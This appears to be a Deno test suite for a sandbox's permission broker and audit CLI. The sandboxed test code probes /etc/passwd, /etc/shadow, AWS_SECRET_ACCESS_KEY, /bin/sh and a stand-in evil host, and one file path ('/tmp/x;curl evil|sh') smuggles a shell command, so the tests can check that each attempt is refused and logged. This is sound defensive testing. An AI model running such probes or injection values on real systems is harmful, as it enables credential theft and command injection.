/**
 * Permission auditing end to end: the broker's trail of a real sandboxed
 * run, the learn mode's minimal flags proven by a plain `deno run`, the
 * audit CLI, and the broker failing closed.
 */

import assert from "node:assert/strict";
import { CertificateAuthority } from "../injector/ca.ts";
import { buildAuditReport } from "../audit/report.ts";
import { startPermissionBroker } from "../harness/permission_broker.ts";
import type {
  AuditEvent,
  EgressEvent,
  PermissionEvent,
} from "../harness/run_result.ts";
import { Sandbox } from "../mod.ts";

const permissions = (events: readonly AuditEvent[]) =>
  events.filter((e): e is PermissionEvent => e.source === "broker");
const requests = (events: readonly AuditEvent[]) =>
  events.filter((e): e is EgressEvent => e.source === "injector");

/** A local HTTPS upstream for "api.example.test" with its own CA. */
async function upstream() {
  const ca = await CertificateAuthority.create();
  const leaf = await ca.leafFor("api.example.test");
  const server = Deno.serve(
    {
      hostname: "127.0.0.1",
      port: 0,
      cert: leaf.certPem,
      key: leaf.keyPem,
      onListen() {},
    },
    () => new Response("upstream ok"),
  );
  const caFile = await Deno.makeTempFile({ suffix: ".pem" });
  await Deno.writeTextFile(caFile, ca.certificatePem);
  return {
    port: server.addr.port,
    caFile,
    async [Symbol.asyncDispose]() {
      await server.shutdown();
      await Deno.remove(caFile);
    },
  };
}

Deno.test("audit trail records exactly what a program tried, with the right decisions", async () => {
  await using up = await upstream();
  const data = await Deno.makeTempDir();
  await Deno.writeTextFile(`${data}/in.txt`, "input");
  await Deno.chmod(data, 0o755);
  await Deno.chmod(`${data}/in.txt`, 0o644);
  await using sandbox = await Sandbox.create({
    policy: {
      inputs: [`${data}:/inputs/data`],
      network: { allow: ["api.example.test"] },
      upstream: {
        connectTo: [`api.example.test:443:127.0.0.1:${up.port}`],
        caCerts: [up.caFile],
      },
    },
  });
  const result = await sandbox.run({
    code: `
      console.log(await Deno.readTextFile("/inputs/data/in.txt"));
      try { await Deno.readTextFile("/etc/passwd"); } catch (e) { console.log("passwd:", e.name); }
      try { console.log("env:", Deno.env.get("HOME"), Deno.env.get("AWS_SECRET_ACCESS_KEY")); } catch (e) { console.log("env:", e.name); }
      console.log("allowed:", await (await fetch("https://api.example.test/")).text());
      try { await fetch("https://evil.example.test/"); } catch (e) { console.log("refused:", e.name); }
      try { new Deno.Command("/bin/sh").outputSync(); } catch (e) { console.log("spawn:", e.name); }
    `,
  });
  await Deno.remove(data, { recursive: true });
  assert.equal(result.exitCode, 0, result.stderr);
  assert.equal(
    result.stdout,
    "input\npasswd: NotCapable\nenv: /tmp/run undefined\nallowed: upstream ok\nrefused: NotCapable\nspawn: NotCapable\n",
  );
  const seen = permissions(result.audit).map((e) =>
    `${e.permission} ${e.value} ${e.decision}`
  );
  for (
    const expected of [
      "read /inputs/data/in.txt allow",
      "read /etc/passwd deny",
      // The sandbox's own environment is readable (airlock's variables
      // only); each read is still recorded.
      "env HOME allow",
      "env AWS_SECRET_ACCESS_KEY allow",
      "net api.example.test:443 allow",
      "net evil.example.test:443 deny",
      "run /bin/sh deny",
    ]
  ) {
    assert.ok(
      seen.includes(expected),
      `missing '${expected}' in ${JSON.stringify(seen)}`,
    );
  }
  // Nothing else was granted: every allow is one of those expected.
  const allowed = seen.filter((s) => s.endsWith(" allow"));
  assert.deepEqual(allowed.sort(), [
    "env AWS_SECRET_ACCESS_KEY allow",
    "env HOME allow",
    "net api.example.test:443 allow",
    "read /inputs/data/in.txt allow",
  ]);
  // The injector saw the allowed request; the refused host never reached it
  // (Deno's check, answered by the broker, stopped it first).
  const hosts = requests(result.audit).map((e) =>
    `${e.kind} ${e.host} ${e.decision}`
  );
  assert.ok(
    hosts.includes("request api.example.test allow"),
    JSON.stringify(hosts),
  );
  assert.ok(!hosts.some((h) => h.includes("evil.example.test")));
  // One ordered trail.
  const times = result.audit.map((e) => e.time);
  assert.deepEqual(times, [...times].sort());
});

Deno.test("audit trail aggregates repeated checks into one entry with a count", async () => {
  await using sandbox = await Sandbox.create({ policy: { scratch: true } });
  const result = await sandbox.run({
    code:
      `Deno.writeTextFileSync("f", "x"); for (let i = 0; i < 25; i++) Deno.readTextFileSync("f");`,
  });
  assert.equal(result.exitCode, 0, result.stderr);
  const reads = permissions(result.audit).filter((e) =>
    e.permission === "read"
  );
  assert.equal(reads.length, 1);
  assert.equal(reads[0]!.count, 25);
  assert.ok(reads[0]!.firstTime <= reads[0]!.lastTime);
});

Deno.test("learn mode's minimal flags make the program pass under plain deno run", async () => {
  // A local server the program talks to directly under plain deno run.
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, onListen() {} },
    () => new Response("hi"),
  );
  const project = await Deno.makeTempDir({ prefix: "airlock-learn-" });
  await Deno.chmod(project, 0o755);
  await Deno.mkdir(`${project}/data`, { mode: 0o755 });
  await Deno.writeTextFile(`${project}/data/in.txt`, "line1\nline2\n", {
    mode: 0o644,
  });
  const program = `${project}/prog.ts`;
  await Deno.writeTextFile(
    program,
    `const text = await Deno.readTextFile("./data/in.txt");
     const res = await fetch("http://127.0.0.1:${server.addr.port}/");
     console.log(text.split("\\n").length, res.status);
     Deno.exit(res.status === 200 ? 0 : 3);`,
    { mode: 0o644 },
  );
  try {
    await using sandbox = await Sandbox.create({ learn: { mirror: project } });
    const result = await sandbox.run({ path: program });
    const report = buildAuditReport(result, {
      program: "prog.ts",
      learn: true,
      paths: [{ sandbox: project, host: project }],
      relativeTo: project,
    });
    assert.ok(
      report.minimalFlags.some((f) =>
        f.startsWith("--allow-read=") && f.includes("./data/in.txt")
      ),
      JSON.stringify(report.minimalFlags),
    );
    assert.ok(
      report.minimalFlags.includes(`--allow-net=127.0.0.1:${server.addr.port}`),
      JSON.stringify(report.minimalFlags),
    );
    // Learn mode sent nothing: the request was answered locally.
    const request = requests(result.audit).find((e) => e.kind === "request");
    assert.equal(request?.status, 503);
    // Plain deno run with exactly those flags passes, and fails without them.
    const plain = (flags: string[]) =>
      new Deno.Command(Deno.execPath(), {
        args: ["run", "--no-prompt", "--no-config", ...flags, "prog.ts"],
        cwd: project,
        env: { DENO_NO_UPDATE_CHECK: "1", NO_COLOR: "1" },
        stdout: "piped",
        stderr: "piped",
      }).output();
    const ok = await plain(report.minimalFlags);
    assert.equal(ok.code, 0, new TextDecoder().decode(ok.stderr));
    assert.equal(new TextDecoder().decode(ok.stdout), "3 200\n");
    const denied = await plain([]);
    assert.notEqual(
      denied.code,
      0,
      "control: without the flags the program fails",
    );
  } finally {
    await server.shutdown();
    await Deno.remove(project, { recursive: true });
  }
});

Deno.test("audit CLI lists the refused attempts apart and never proposes them", async () => {
  const dir = await Deno.makeTempDir();
  const program = `${dir}/p.ts`;
  await Deno.writeTextFile(
    program,
    `try { Deno.readTextFileSync("/etc/shadow"); } catch { /* refused */ }
     try { Deno.readTextFileSync("/tmp/x;curl evil|sh"); } catch { /* refused */ }`,
  );
  try {
    const out = await new Deno.Command(Deno.execPath(), {
      args: [
        "run",
        "-A",
        "--config",
        new URL("../deno.json", import.meta.url).pathname,
        new URL("../cli/audit.ts", import.meta.url).pathname,
        "--json",
        program,
      ],
      env: { NO_COLOR: "1" },
      stdout: "piped",
      stderr: "piped",
    }).output();
    assert.equal(out.code, 0, new TextDecoder().decode(out.stderr));
    const report = JSON.parse(new TextDecoder().decode(out.stdout));
    const entry = report.entries.find((e: { value: string }) =>
      e.value === "/etc/shadow"
    );
    assert.equal(entry?.decision, "deny");
    // Refused in the run: listed, never proposed; /etc/shadow is named as
    // sensitive.
    assert.deepEqual(report.minimalFlags, []);
    const refused = report.refused.map((t: { value: string }) => t.value);
    assert.deepEqual(refused.sort(), ["/etc/shadow", "/tmp/x;curl evil|sh"]);
    assert.match(
      report.refused.find((t: { value: string }) => t.value === "/etc/shadow")
        .sensitive,
      /system credentials/,
    );
    // A path the program chose cannot smuggle shell syntax into the
    // command: the program name is quoted like every flag.
    assert.match(report.denoCommand, /^deno run \S*p\.ts$/);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("permission broker: Deno fails closed (exit 87) when the broker goes away mid-run", async () => {
  const dir = await Deno.makeTempDir();
  const socketPath = `${dir}/broker.sock`;
  const broker = await startPermissionBroker({
    socketPath,
    grants: { read: ["/"], write: [], net: [], env: [] },
    sandboxId: "t",
    runId: "t-r1",
    ownerUid: null,
  });
  const program = `${dir}/p.js`;
  await Deno.writeTextFile(
    program,
    // The second check waits for the test's go on stdin, sent once the
    // broker is closed (a sleep here let a slow test answer it too).
    `Deno.readTextFileSync("${program}"); console.log("first check answered");
     await Deno.stdin.read(new Uint8Array(1));
     Deno.readTextFileSync("${program}"); console.log("UNREACHABLE");`,
  );
  const child = new Deno.Command(Deno.execPath(), {
    args: ["run", "--no-config", program],
    env: {
      DENO_PERMISSION_BROKER_PATH: socketPath,
      DENO_NO_UPDATE_CHECK: "1",
      NO_COLOR: "1",
    },
    stdin: "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  const reader = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
  let seen = "";
  while (!seen.includes("first check answered")) {
    seen += (await reader.read()).value ?? "";
  }
  await broker.close();
  const stdin = child.stdin.getWriter();
  await stdin.write(new Uint8Array([0x0a]));
  await stdin.close();
  while (true) {
    const { value, done } = await reader.read();
    if (done) break;
    seen += value;
  }
  const status = await child.status;
  await child.stderr.cancel();
  await Deno.remove(dir, { recursive: true });
  assert.equal(status.code, 87);
  assert.ok(!seen.includes("UNREACHABLE"));
});

Deno.test("broker audits and decides relative paths against the directory Deno.chdir moved to", async () => {
  const data = await Deno.makeTempDir();
  await Deno.mkdir(`${data}/sub`);
  await Deno.writeTextFile(`${data}/creds.txt`, "input creds");
  await Deno.writeTextFile(`${data}/sub/deep.txt`, "deep");
  for (const path of [data, `${data}/sub`]) await Deno.chmod(path, 0o755);
  for (const path of [`${data}/creds.txt`, `${data}/sub/deep.txt`]) {
    await Deno.chmod(path, 0o644);
  }
  try {
    await using sandbox = await Sandbox.create({
      policy: { scratch: true, inputs: [`${data}:/inputs/data`] },
    });
    const result = await sandbox.run({
      code: `
        Deno.writeTextFileSync("creds.txt", "scratch creds"); // cwd: /scratch
        Deno.chdir("/inputs/data");
        console.log(Deno.readTextFileSync("creds.txt"));
        try { Deno.writeTextFileSync("planted.txt", "x"); } catch (e) { console.log("write:", e.name); }
        Deno.chdir("sub");
        console.log(Deno.readTextFileSync("deep.txt"));
        console.log(Deno.readTextFileSync("../../../scratch/creds.txt"));
      `,
    });
    assert.equal(result.exitCode, 0, result.stderr);
    assert.equal(
      result.stdout,
      "input creds\nwrite: NotCapable\ndeep\nscratch creds\n",
    );
    const seen = permissions(result.audit).map((e) =>
      `${e.permission} ${e.value} ${e.decision}`
    );
    for (
      const expected of [
        "write /scratch/creds.txt allow",
        "read /inputs/data allow",
        "read /inputs/data/creds.txt allow",
        // Decided against the input directory (read-only), not /scratch.
        "write /inputs/data/planted.txt deny",
        "read /inputs/data/sub allow",
        "read /inputs/data/sub/deep.txt allow",
        "read /scratch/creds.txt allow",
      ]
    ) {
      assert.ok(seen.includes(expected), `missing '${expected}' in ${seen}`);
    }
    // Nothing was resolved against the starting directory.
    assert.ok(
      !seen.some((s) => /\/scratch\/(planted|deep|sub)/.test(s)),
      `${seen}`,
    );
  } finally {
    await Deno.remove(data, { recursive: true });
  }
});
